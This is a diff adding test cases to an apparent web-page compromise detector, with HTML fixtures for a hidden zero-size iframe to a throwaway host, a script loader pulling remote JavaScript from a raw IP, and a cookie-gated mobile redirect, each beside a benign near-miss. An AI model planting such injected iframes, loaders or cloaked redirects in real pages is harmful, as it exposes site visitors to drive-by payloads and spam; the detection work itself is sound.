@@ -167,3 +167,39 @@ def test_seed_text_record(shared_dir):
     page = page_from_text(SEED.read_text("utf-8", errors="replace"))
     findings, feats = run(page)
     assert not findings and all(math.isnan(v) for v in feats.values())
+
+
+# --- signals added for held-out styles: each positive next to its near-miss ----------------
+
+def test_hidden_iframe_to_a_throwaway_host_is_high_and_to_an_ordinary_one_is_a_feature():
+    bad = page_from_text(_html('<iframe src="https://www.kqzx-meds.tk/" height="0" width="0" '
+                               'style="position:absolute;top:-999px"></iframe>'), mode="html")
+    findings, _ = run(bad)
+    f = max((f for f in findings if f.id == "SEO302"), key=weight)
+    assert (f.severity, f.confidence) == ("high", "high") and f.evidence["domain"] == "kqzx-meds.tk"
+    okay = page_from_text(_html('<iframe src="https://sync.adnetwork-partner.com/s" height="0" width="0" '
+                                'style="display:none"></iframe>'), mode="html")
+    findings, feats = run(okay)
+    assert not findings and feats["SEO302.tiny_hidden_iframes_log"] > 0
+
+
+def test_loader_from_a_cheap_tld_alone_is_weak_but_with_a_raw_ip_is_high():
+    loader = ('<script>(function(d,s){{var x=d.createElement(s);x.async=1;x.src="{}/t.js?"+Math.random();'
+              'd.getElementsByTagName("head")[0].appendChild(x)}})(document,"script");</script>')
+    weak = page_from_text(_html(loader.format("https://widgets.recommend.cc")), mode="html")
+    findings, feats = run(weak)
+    assert findings and max(weight(f) for f in findings) <= 0.16 and feats["SEO302.writes_foreign_resource"] == 1.0
+    strong = page_from_text(_html(loader.format("http://185.234.72.19:8081")), mode="html")
+    findings, _ = run(strong)
+    assert max(weight(f) for f in findings) >= 0.6
+
+
+def test_cookie_gated_redirect_is_recognised_and_weak_to_an_ordinary_domain():
+    gated = ('<script>if(document.cookie.indexOf("seen")==-1){document.cookie="seen=1";'
+             'if(/iPad|Android/i.test(navigator.userAgent)){location.href="https://tablet-edition-service.com/r"}}</script>')
+    findings, feats = run(page_from_text(_html(gated), mode="html"))
+    assert feats["SEO303.cookie_gated"] == 1.0
+    assert findings and max(weight(f) for f in findings) <= 0.16
+    plain = '<script>if(/iPad|Android/i.test(navigator.userAgent)){location.href="https://tablet-edition-service.com/r"}</script>'
+    findings, feats = run(page_from_text(_html(plain), mode="html"))
+    assert not findings and feats["SEO303.cookie_gated"] == 0.0
